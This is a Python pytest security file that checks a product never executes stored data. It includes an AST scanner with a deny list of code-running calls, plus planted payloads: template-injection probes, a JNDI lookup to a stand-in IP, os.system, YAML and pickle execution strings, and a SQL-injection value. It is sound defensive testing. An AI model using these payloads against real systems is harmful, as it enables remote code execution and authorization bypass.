"""Threat row 26: nothing that the database or a file holds is ever run."""

import ast
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any, Final

import pytest
import sqlalchemy as sa
from tests.unit.identity.people import cheap_desk, set_up

from mingjian.audit.model import SYSTEM, Action, Actor, Entry, Recorded
from mingjian.audit.service import listing, record
from mingjian.identity.rights import service as rights
from mingjian.identity.rights import store as rights_store
from mingjian.storage.engine import Database

SOURCES: Final = Path(__file__).parents[2] / "src" / "mingjian"
# Modules that make objects or run code from bytes, and functions that run a text.
MODULES: Final = {"pickle", "marshal", "shelve", "dill", "cloudpickle", "jsonpickle", "joblib", "code", "codeop"}
BUILTINS: Final = {"eval", "exec", "compile", "__import__"}
ATTRIBUTES: Final = {
    ("yaml", "load"), ("yaml", "load_all"), ("yaml", "unsafe_load"), ("yaml", "full_load"), ("yaml", "Loader"),
    ("yaml", "UnsafeLoader"), ("yaml", "FullLoader"), ("os", "system"), ("os", "popen"), ("numpy", "load"),
    ("np", "load"), ("subprocess", "getoutput"),
}  # fmt: skip


def forbidden(source: str) -> Iterator[tuple[int, str]]:
    """Lines of a module that could run data, with what is there."""
    for node in ast.walk(ast.parse(source)):
        match node:
            case ast.Import(names=names):
                yield from ((node.lineno, one.name) for one in names if one.name.partition(".")[0] in MODULES)
            case ast.ImportFrom(module=str(module), names=names):
                if module.partition(".")[0] in MODULES:
                    yield node.lineno, module
                yield from ((node.lineno, one.name) for one in names if (module, one.name) in ATTRIBUTES)
            case ast.Call(func=ast.Name(id=name)) if name in BUILTINS:
                yield node.lineno, name
            case ast.Attribute(value=ast.Name(id=module), attr=name) if (module, name) in ATTRIBUTES:
                yield node.lineno, f"{module}.{name}"
            case ast.keyword(arg="shell", value=ast.Constant(value=True)):
                yield node.value.lineno, "shell=True"


def test_threat_26_no_module_of_the_product_runs_data() -> None:
    found = {
        f"{path.relative_to(SOURCES)}:{line}": what
        for path in SOURCES.rglob("*.py")
        for line, what in forbidden(path.read_text())
    }
    assert found == {}


@pytest.mark.parametrize(
    "line",
    [
        "import pickle", "from pickle import loads", "import marshal as m", "eval(row.rule)", "exec(text)",
        "compile(text, '', 'exec')", "__import__(name)", "yaml.load(text)", "from yaml import unsafe_load",
        "yaml.load(text, Loader=yaml.FullLoader)", "os.system(row)", "subprocess.run(row, shell=True)", "np.load(file)",
    ],
)  # fmt: skip
def test_threat_26_the_check_has_teeth(line: str) -> None:
    assert list(forbidden(line))


PLANTED: Final = (
    "{actor.__class__.__init__.__globals__}",
    "{0.__class__}",
    "${jndi:ldap://192.0.2.1/x}",
    "{{7*7}}",
    "__import__('os').system('touch /tmp/planted')",
    "!!python/object/apply:os.system ['touch planted']",
    "\x80\x04cos\nsystem\n(S'touch planted'\ntR.",
)


@pytest.mark.parametrize("planted", PLANTED)
def test_threat_26_a_planted_row_is_shown_and_not_run(
    database: Database, planted: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whoever owns the database plants what templates, formats and loaders of other programs have run."""
    monkeypatch.chdir(tmp_path)
    label = planted.replace("\x80", "?")
    with database.write() as tx:
        evil = Actor("person", None, label, label)
        record(tx, Entry(Action.PLACE_ADDED, evil, "place", label, {"name": label}, 1))
        record(tx, Entry(Action.SIGNED_IN, SYSTEM, "person", label, {}, 2))
    with database.read() as tx:
        entries = listing(tx, None, 10).items
    place = next(one for one in entries if one.action == Action.PLACE_ADDED.code)
    assert place.sentence.zh == f"{label} 新增场所 {label}"
    assert place.sentence.en == f"{label} added the place {label}"
    assert list(tmp_path.glob("planted*")) == []


def test_threat_26_a_planted_action_is_no_template() -> None:
    entry = Recorded(1, 1, "{actor.__class__.__mro__}", SYSTEM, "x", "", {"actor": "x"})
    assert entry.sentence.zh == "{actor.__class__.__mro__}"


@pytest.mark.parametrize("column", ["kind", "value", "hours"])
def test_threat_26_a_planted_grant_opens_nothing(database: Database, column: str) -> None:
    """A grant that nobody could have given is an error, never a wider right."""
    person = set_up(cheap_desk(database)).opened.session.person
    planted: dict[str, Any] = {"kind": "everywhere' OR 1=1", "value": "530581", "hours": json.dumps([[9, 0, 1]])}
    with database.write() as tx:
        tx.execute(sa.update(rights_store.SCOPE_GRANT).values({column: planted[column]}))
    with database.read() as tx, pytest.raises((KeyError, ValueError)):
        rights.authority(tx, person, 1)
